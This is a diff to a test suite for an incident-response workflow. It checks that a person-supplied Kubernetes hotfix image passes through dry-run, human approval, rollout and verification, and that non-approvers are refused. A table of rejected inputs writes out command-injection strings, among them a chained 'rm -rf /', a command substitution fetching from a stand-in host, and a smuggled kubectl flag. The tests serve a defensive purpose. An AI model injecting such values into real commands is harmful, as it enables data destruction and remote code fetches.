@@ -19,6 +19,7 @@ import {
   approveSignal,
   completeTaskSignal,
   decideUpdate,
+  hotfixUpdate,
   resolveSignal,
   tasksQuery,
   type IncidentInput,
@@ -191,6 +192,72 @@ describe("the runbook's resource values", () => {
     const status = await statusOf(handle);
     // Verified as the runbook says: rollout status first, then the pods and endpoints.
     expect(status.timeline.map((t) => t.text)).toContainEqual(expect.stringMatching(/successfully rolled out/));
+  });
+});
+
+describe('a hotfix image from a person (runbook: kubectl set image)', () => {
+  const incidents = (): Incidents => new Incidents(suite.env.client, loadClientConfig({ DEFAULT_CLUSTER: 'test' }));
+
+  it('given a rejected rollback, when an approver supplies a hotfix image, it is dry-run, approved, applied, rolled out, verified and on the timeline', async () => {
+    const { cluster, handle } = await incident('bad-rollout', { approval: { approvers: ['alice', 'bob'], autoApprove: { default: ['set-image'] } } });
+    await decide(handle, 1, 'reject');
+    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
+    // Nothing proposes a set image by itself, even with the policy auto-approving the kind.
+    expect(cluster.callsOf('previewMutation').map((c) => (c.args[0] as { action: { kind: string } }).action.kind)).toEqual(['rollout-undo']);
+
+    const image = `${handle.workflowId.split('/')[3] ?? ''}:hotfix-v1.0.1`;
+    const outcome = await incidents().proposeHotfix(handle.workflowId, 'bob', image, { comment: 'fixes the registry import' });
+    expect(outcome).toMatchObject({ image, by: 'bob', next: 'now: dry-run, then an approval request' });
+
+    const pending = await waitForStatus(handle, (s) => s.pendingApproval?.kind === 'set-image', 'the hotfix to await approval');
+    // Always a person's approval: the policy's auto-approval of set-image does not apply to a person's image.
+    expect(pending.pendingApproval).toMatchObject({
+      action: 2,
+      command: expect.stringMatching(new RegExp(`set image deployment/\\S+ agent-manager=${image.replace('.', '\\.')}$`)) as unknown,
+      why: expect.stringContaining('supplied by bob (fixes the registry import)') as unknown,
+      preview: { wouldChange: true, changes: [expect.stringMatching(new RegExp(`-> ${image}$`)) as unknown] },
+    });
+    expect(cluster.callsOf('applyMutation')).toEqual([]);
+    await decide(handle, 2, 'approve');
+    const result = await handle.result();
+    const status = await statusOf(handle);
+
+    expect(result.resolution).toBe('mitigated');
+    expect(cluster.mutations.map((m) => m.action)).toEqual([{ kind: 'set-image', container: 'agent-manager', image }]);
+    expect(cluster.failure()).toBeUndefined();
+    const timeline = status.timeline.map((t) => t.text);
+    expect(timeline).toContainEqual(expect.stringContaining(`hotfix image ${image} supplied by bob`));
+    expect(timeline).toContainEqual(expect.stringMatching(/^#2 applied: image .* -> /));
+    // Runbook: "Monitor deployment: kubectl rollout status" after the set image.
+    expect(cluster.callsOf('waitForRollout')).toHaveLength(1);
+    expect(timeline).toContainEqual(expect.stringMatching(/successfully rolled out/));
+  });
+
+  it.each([
+    ['shell metacharacters', 'agent-native-framework:v1;rm${IFS}-rf${IFS}/', /is not an image reference/],
+    ['command substitution', '$(curl${IFS}evil.example)', /is not an image reference/],
+    ['a quote that would end the command line', "app:v1'&&kubectl", /is not an image reference/],
+    ['a kubectl flag smuggled in', 'app:v1 --namespace=kube-system', /whitespace or control characters/],
+    ['upper case repository', 'Agent-Native:v1', /is not an image reference/],
+    ['no tag or digest', 'agent-native-framework', /names no tag or digest/],
+    ['a tag over 128 characters', `app:${'a'.repeat(129)}`, /is not an image reference/],
+  ])('refuses a hotfix image with %s, with a clear error, and proposes nothing', async (_what, image, message) => {
+    const { cluster, handle } = await incident('bad-rollout');
+    await decide(handle, 1, 'reject');
+    await waitForStatus(handle, (s) => s.phase === 'escalated', 'the incident to be handed over');
+    expect(await refusalOf(handle.executeUpdate(hotfixUpdate, { args: [{ by: 'alice', image }] }))).toMatch(message);
+    await expect(incidents().proposeHotfix(handle.workflowId, 'alice', image)).rejects.toThrow(message);
+    await suite.env.sleep('1m');
+    expect((await statusOf(handle)).actions).toHaveLength(1);
+    expect(cluster.callsOf('previewMutation')).toHaveLength(1);
+  });
+
+  it('refuses a hotfix from someone not on the approver list', async () => {
+    const { handle } = await incident('bad-rollout', { approval: { approvers: ['alice'] } });
+    await waitForStatus(handle, (s) => s.pendingApproval !== undefined, 'the rollback to await approval');
+    expect(await refusalOf(handle.executeUpdate(hotfixUpdate, { args: [{ by: 'mallory', image: 'agent-native-framework:hotfix-v1.0.1' }] }))).toMatch(
+      /mallory is not an allowed approver/,
+    );
   });
 });
 
